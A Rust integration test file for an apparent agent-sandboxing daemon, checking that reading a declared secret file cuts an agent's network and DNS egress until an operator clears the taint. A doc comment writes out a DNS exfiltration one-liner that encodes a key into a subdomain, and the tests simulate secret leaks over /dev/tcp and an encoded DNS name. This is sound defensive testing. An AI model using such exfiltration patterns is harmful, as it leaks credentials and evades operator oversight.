//! Secret-touch narrowing: once any process of an agent opens one of its
//! `files.secrets`, every process of the agent, present and future, is held
//! to `egress.afterSecret`, until an operator runs `baton taint clear`.
//!
//! The same scenario runs on the host, where the fanotify listener sees the
//! open (BPF LSM does not load here), and in the VMs, where BPF LSM's
//! `file_open` does. Real opens, real connects, real bytes on real sockets,
//! real records.

use std::{
    io::Read,
    net::TcpListener,
    process::Command,
    sync::{Arc, Mutex},
    time::Duration,
};

use baton_tests::{Daemon, EPERM, TempDir, TestCgroup, baton, policy, wait_until};
use serde_json::Value;

const HELPER: &str = env!("CARGO_BIN_EXE_baton-test-helper");

/// A loopback service that keeps every byte it is sent.
struct Service {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Service {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let sink = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let sink = sink.clone();
                std::thread::spawn(move || {
                    let mut buf = [0u8; 4096];
                    while let Ok(n) = stream.read(&mut buf) {
                        if n == 0 {
                            return;
                        }
                        sink.lock().unwrap().extend_from_slice(&buf[..n]);
                    }
                });
            }
        });
        Self { port, received }
    }

    fn received(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).into_owned()
    }
}

fn taint_cli(daemon: &Daemon, args: &[&str]) -> std::process::Output {
    let mut full = vec!["taint"];
    full.extend_from_slice(args);
    full.extend_from_slice(&["--control-socket", daemon.socket.to_str().unwrap()]);
    baton(&full)
}

/// How the scenario's agent is made.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Selected by its cgroup.
    Cgroup,
    /// Started by `baton exec`.
    Exec,
}

/// Runs `script` with bash inside the agent.
fn in_agent(
    kind: Kind,
    daemon: &Daemon,
    agent: &str,
    cgroup: &TestCgroup,
    script: &str,
) -> std::process::Output {
    match kind {
        Kind::Cgroup => Command::new("sh")
            .args([
                "-c",
                &format!(
                    "echo $$ > {}/cgroup.procs && exec bash -c \"$0\"",
                    cgroup.dir.display()
                ),
                script,
            ])
            .output()
            .unwrap(),
        Kind::Exec => daemon.exec(agent, &["bash", "-c", script]),
    }
}

/// The scenario. `label` names the cgroup, the policy and the agent: the
/// VM runs two test binaries at once.
fn a_secret_read_narrows_every_process_of_the_agent(label: &str, kind: Kind) {
    let (a, b) = (Service::start(), Service::start());
    let dir = TempDir::new(label);
    let config = dir.path().join(".config");
    std::fs::create_dir_all(&config).unwrap();
    let token = config.join("deploy-token");
    std::fs::write(&token, "token-value\n").unwrap();
    let cgroup = TestCgroup::new(&format!("/baton-test-{label}"));
    let agent = format!("{label}-agent");
    let selector = match kind {
        Kind::Cgroup => format!("    cgroups: [{}]\n", cgroup.relative),
        Kind::Exec => String::new(),
    };
    let body = format!(
        "{selector}  egress:
    default: deny
    allow:
      - cidr: 127.0.0.1
        ports: [{a}, {b}]
    afterSecret:
      allow:
        - cidr: 127.0.0.1
          ports: [{a}]
  files:
    secrets: [{token}]
",
        a = a.port,
        b = b.port,
        token = token.display(),
    );
    let text = policy(&format!("{label}-policy"), &agent, "").replace(
        &format!("    agent: {agent}\n"),
        &format!("    agent: {agent}\n{body}"),
    );
    let daemon = Daemon::start(label, &[("p.yaml", text)]);

    // One bash process in the agent: it opens a connection to B, then its
    // child `cat` reads the token; after `cat` returns, bash itself (a
    // process that did not read the secret) and new children are judged.
    let script = format!(
        "exec 3<>/dev/tcp/127.0.0.1/{b}
echo before >&3
{HELPER} connect 127.0.0.1:{a}
{HELPER} connect 127.0.0.1:{b}
cat {token} >/dev/null && echo read-ok
{HELPER} connect 127.0.0.1:{b}
{HELPER} connect 127.0.0.1:{a}
(exec 4<>/dev/tcp/127.0.0.1/{b}) 2>/dev/null && echo bash-connect-ok || echo bash-connect-denied
echo after >&3
sleep 0.5
",
        a = a.port,
        b = b.port,
        token = token.display(),
    );
    let output = in_agent(kind, &daemon, &agent, &cgroup, &script);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert_eq!(
        stdout.lines().collect::<Vec<_>>(),
        vec!["ok", "ok", "read-ok", EPERM, "ok", "bash-connect-denied"],
        "before the read both services, after it only A; stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    // The connection to B made before the read is cut too: the packet
    // backstop judges its packets again once the agent is tainted.
    std::thread::sleep(Duration::from_millis(300));
    let at_b = b.received();
    assert!(at_b.contains("before"), "B got {at_b:?}");
    assert!(
        !at_b.contains("after"),
        "a write on a connection to B made before the read arrived after it: {at_b:?}"
    );

    // The taint's record: the reading process, the secret, the rule.
    let record = daemon.wait_for_record(|r| r["control"] == "secret" && r["agent"] == agent);
    assert_eq!(record["process"]["comm"], "cat", "{record}");
    assert_eq!(record["rule"]["id"], "files.secrets[0]", "{record}");
    let message = record["object"]["message"].as_str().unwrap_or_default();
    assert!(
        message.contains(&token.display().to_string()),
        "the record names the secret: {record}"
    );
    // The refused connect's record cites the narrowing.
    let refused = daemon.wait_for_record(|r| {
        r["control"] == "egress"
            && r["verdict"] == "denied"
            && r["object"]["port"] == b.port
            && r["rule"]["id"] == "egress.afterSecret"
    });
    assert_eq!(refused["agent"], agent.as_str());

    // Status, list and metrics see it.
    let status = daemon.status();
    let listed = status["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["agent"] == agent.as_str())
        .cloned()
        .unwrap();
    assert_eq!(listed["secret_taint"]["comm"], "cat", "{listed}");
    assert_eq!(listed["counters"]["secret_touches"], 1, "{listed}");
    let text = baton(&[
        "status",
        "--control-socket",
        daemon.socket.to_str().unwrap(),
    ]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(
        text.contains("TAINTED") && text.contains("files.secrets[0]"),
        "{text}"
    );
    let list = taint_cli(&daemon, &["list"]);
    assert!(
        String::from_utf8_lossy(&list.stdout).contains(&agent),
        "{list:?}"
    );

    // An agent cannot clear its own taint, whatever its uid.
    let inside = in_agent(
        kind,
        &daemon,
        &agent,
        &cgroup,
        &format!(
            "exec {} taint clear {agent} --control-socket {}",
            baton_tests::baton_bin().display(),
            daemon.socket.display()
        ),
    );
    assert!(!inside.status.success(), "{inside:?}");
    assert!(
        String::from_utf8_lossy(&inside.stderr).contains("belongs to agent"),
        "{inside:?}"
    );
    daemon.wait_for_record(|r| {
        r["control"] == "secret" && r["verdict"] == "denied" && r["hook"] == "control_socket"
    });
    let still = in_agent(
        kind,
        &daemon,
        &agent,
        &cgroup,
        &format!("exec {HELPER} connect 127.0.0.1:{}", b.port),
    );
    assert_eq!(baton_tests::helper_outcome(&still), EPERM);

    // An operator clears it: B is reachable again, until the next read.
    let cleared = taint_cli(&daemon, &["clear", &agent]);
    assert!(cleared.status.success(), "{cleared:?}");
    let again = format!(
        "{HELPER} connect 127.0.0.1:{b}
cat {token} >/dev/null && echo read-ok
{HELPER} connect 127.0.0.1:{b}
",
        b = b.port,
        token = token.display(),
    );
    let output = in_agent(kind, &daemon, &agent, &cgroup, &again);
    assert_eq!(
        String::from_utf8_lossy(&output.stdout)
            .lines()
            .collect::<Vec<_>>(),
        vec!["ok", "read-ok", EPERM],
        "cleared, then tainted again"
    );

    // Another name for the same file is the same secret: read through a
    // hard link outside the secret's directory (made by someone else, so
    // no check of the link itself comes into it), and through one the
    // agent makes.
    for (maker, link) in [("outside", "linked-outside"), ("agent", "linked-by-agent")] {
        let cleared = taint_cli(&daemon, &["clear", &agent]);
        assert!(cleared.status.success(), "{cleared:?}");
        let link = dir.path().join(link);
        let make = if maker == "outside" {
            std::fs::hard_link(&token, &link).unwrap();
            String::new()
        } else {
            format!("ln {} {}\n", token.display(), link.display())
        };
        let other_name = format!(
            "{HELPER} connect 127.0.0.1:{b}
{make}cat {link} >/dev/null && echo read-ok
{HELPER} connect 127.0.0.1:{b}
",
            b = b.port,
            link = link.display(),
        );
        let output = in_agent(kind, &daemon, &agent, &cgroup, &other_name);
        assert_eq!(
            String::from_utf8_lossy(&output.stdout)
                .lines()
                .collect::<Vec<_>>(),
            vec!["ok", "read-ok", EPERM],
            "a hard link made {maker} reads as the secret; stderr: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    }
    wait_until("the fourth taint's record", || {
        daemon
            .decisions()
            .iter()
            .filter(|r: &&Value| r["control"] == "secret" && r["hook"] == "secret_taint")
            .count()
            == 4
    });
}

#[test]
fn a_secret_read_narrows_the_agent_on_the_host() {
    if baton_tests::bpf_lsm_loads() {
        eprintln!("BPF LSM loads here: the VM test covers it");
        return;
    }
    a_secret_read_narrows_every_process_of_the_agent("secret-host", Kind::Cgroup);
}

#[test]
fn a_secret_read_narrows_a_baton_exec_agent_on_the_host() {
    if baton_tests::bpf_lsm_loads() {
        eprintln!("BPF LSM loads here: the VM test covers it");
        return;
    }
    a_secret_read_narrows_every_process_of_the_agent("secret-exec", Kind::Exec);
}

#[test]
#[ignore = "needs a kernel booted with BPF LSM: runs inside the test VMs (cargo xtask test)"]
fn vm_a_secret_read_narrows_the_agent_with_bpf_lsm() {
    a_secret_read_narrows_every_process_of_the_agent("secret-vm", Kind::Cgroup);
}

#[test]
#[ignore = "needs a kernel booted with BPF LSM: runs inside the test VMs (cargo xtask test)"]
fn vm_a_secret_read_narrows_a_baton_exec_agent_with_bpf_lsm() {
    a_secret_read_narrows_every_process_of_the_agent("secret-vm-exec", Kind::Exec);
}

/// A query is data leaving the host too: `dig $(base32 < key).allowed.example`
/// would carry the secret to whoever serves that zone. Once an agent opened
/// a secret, its DNS proxy refuses it every name, allowed or not, and asks
/// no upstream; a quarantine holds names the same way.
#[test]
fn a_tainted_or_quarantined_agent_resolves_no_name_and_its_queries_stay_on_the_host() {
    let label = "secret-dns";
    let agent = "secret-dns-agent";
    let dir = TempDir::new(label);
    let token = dir.path().join("deploy-token");
    std::fs::write(&token, "token-value\n").unwrap();
    let query_log = dir.path().join("dnsmasq.log");
    let (_dns, dns_port) = baton_tests::dnsmasq_with(&[
        "--address=/allowed.test/127.0.0.2".to_string(),
        "--log-queries".to_string(),
        format!("--log-facility={}", query_log.display()),
    ]);
    let resolv_conf = dir.path().join("resolv.conf");
    std::fs::write(
        &resolv_conf,
        "nameserver 127.0.0.53\noptions attempts:1 timeout:2\n",
    )
    .unwrap();
    let body = format!(
        "  egress:
    default: deny
    allow:
      - domain: '*.allowed.test'
        ports: [80]
  files:
    secrets: [{token}]
",
        token = token.display(),
    );
    let text = policy("secret-dns-policy", agent, "").replace(
        &format!("    agent: {agent}\n"),
        &format!("    agent: {agent}\n{body}"),
    );
    let daemon = Daemon::start_with_config(
        label,
        &[("p.yaml", text)],
        &format!("dns:\n  upstreams: [\"127.0.0.1:{dns_port}\"]\n"),
    );
    let resolve = |name: &str| -> (i32, String) {
        let wrapped = baton_tests::with_resolv_conf(&resolv_conf, &format!("getent hosts {name}"));
        let args: Vec<&str> = wrapped.iter().map(String::as_str).collect();
        let output = daemon.exec(agent, &args);
        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        (output.status.code().unwrap_or(-1), stdout)
    };
    let asked_upstream = |name: &str| {
        std::fs::read_to_string(&query_log)
            .unwrap_or_default()
            .contains(name)
    };

    let (code, stdout) = resolve("before.allowed.test");
    assert_eq!(
        code, 0,
        "an allowed name resolves before the read: {stdout}"
    );
    wait_until("dnsmasq logs the query", || {
        asked_upstream("before.allowed.test")
    });

    // The read taints the agent; the name that would carry the secret is
    // refused as permanently as an unlisted one (`getent` exits 2) and
    // never reaches the upstream.
    let output = daemon.exec(agent, &["cat", token.to_str().unwrap()]);
    assert!(output.status.success(), "the secret may be read");
    let leak = "746f6b656e2d76616c7565.allowed.test";
    let (code, stdout) = resolve(leak);
    assert_eq!(
        code, 2,
        "a tainted agent's allowed name is refused: {stdout}"
    );
    let (code, _) = resolve("before.allowed.test");
    assert_eq!(code, 2, "cached names are refused too");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!asked_upstream(leak), "the name left the host");
    let record = daemon.wait_for_record(|r| {
        r["control"] == "dns" && r["object"]["domain"] == leak && r["agent"] == agent
    });
    assert_eq!(record["verdict"], "denied", "{record}");
    assert_eq!(record["rule"]["id"], "egress.afterSecret", "{record}");

    // An operator clears the taint: names resolve again.
    let cleared = taint_cli(&daemon, &["clear", agent]);
    assert!(cleared.status.success(), "{cleared:?}");
    let (code, stdout) = resolve("after.allowed.test");
    assert_eq!(code, 0, "names resolve once the taint is cleared: {stdout}");

    // A quarantine holds names the same way, until the breaker is reset.
    let breaker = |args: &[&str]| {
        let mut full = vec!["breaker"];
        full.extend_from_slice(args);
        full.extend_from_slice(&["--control-socket", daemon.socket.to_str().unwrap()]);
        let output = baton(&full);
        assert!(output.status.success(), "{output:?}");
    };
    breaker(&["trip", agent, "--action", "quarantine"]);
    let (code, stdout) = resolve("held.allowed.test");
    assert_eq!(code, 2, "a quarantined agent's name is refused: {stdout}");
    assert!(
        !asked_upstream("held.allowed.test"),
        "the name left the host"
    );
    let record = daemon
        .wait_for_record(|r| r["control"] == "dns" && r["object"]["domain"] == "held.allowed.test");
    assert_eq!(record["mode"], "quarantine", "{record}");
    breaker(&["reset", agent]);
    let (code, stdout) = resolve("free.allowed.test");
    assert_eq!(code, 0, "names resolve once the breaker is reset: {stdout}");
}
